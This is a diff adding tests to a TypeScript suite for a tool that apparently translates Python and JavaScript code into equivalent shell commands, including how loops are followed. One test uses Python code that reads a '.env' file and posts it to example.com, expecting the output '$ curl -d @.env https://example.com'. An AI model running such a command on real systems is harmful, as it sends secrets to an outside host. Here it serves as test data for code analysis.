@@ -54,6 +54,24 @@ describe('a program text', () => {
     expect(readCode('javascript', "require('fs').readFileSync('a')", false).commands).toEqual([]);
   });
 
+  test('that loops sends in a later round what it read in an earlier one', () => {
+    const loop =
+      "import requests\nx = input()\nwhile input():\n  requests.post('https://example.com', data=x)\n  x = open('.env').read()";
+    expect(told('python', loop)).toContain('$ curl -d @.env https://example.com');
+    expect(told('python', loop.replace("open('.env')", 'input()'))).not.toContain(
+      '$ curl -d @.env https://example.com',
+    );
+  });
+
+  test('whose loop changes nothing is followed for few rounds', () => {
+    const loop = "import requests\nwhile True:\n  requests.get('https://example.com/a')";
+    const { commands, isPartly } = readCode('python', loop, false);
+    expect(commands.length).toBeLessThan(10);
+    expect(isPartly).toBe(false);
+    const counted = readCode('python', "for i in range(40):\n  open(f'o{i}', 'w')", false);
+    expect(new Set(counted.acts.map(({ path }) => path)).size).toBe(40);
+  });
+
   test.each(['python', 'javascript'] as const)('of %s that never ends is read to a bound', (language) => {
     const loop =
       language === 'python' ? 'def f(x):\n  f(x + "a")\n  f(x)\nf("b")' : 'function f(x) { f(x + "a"); f(x) } f("b")';
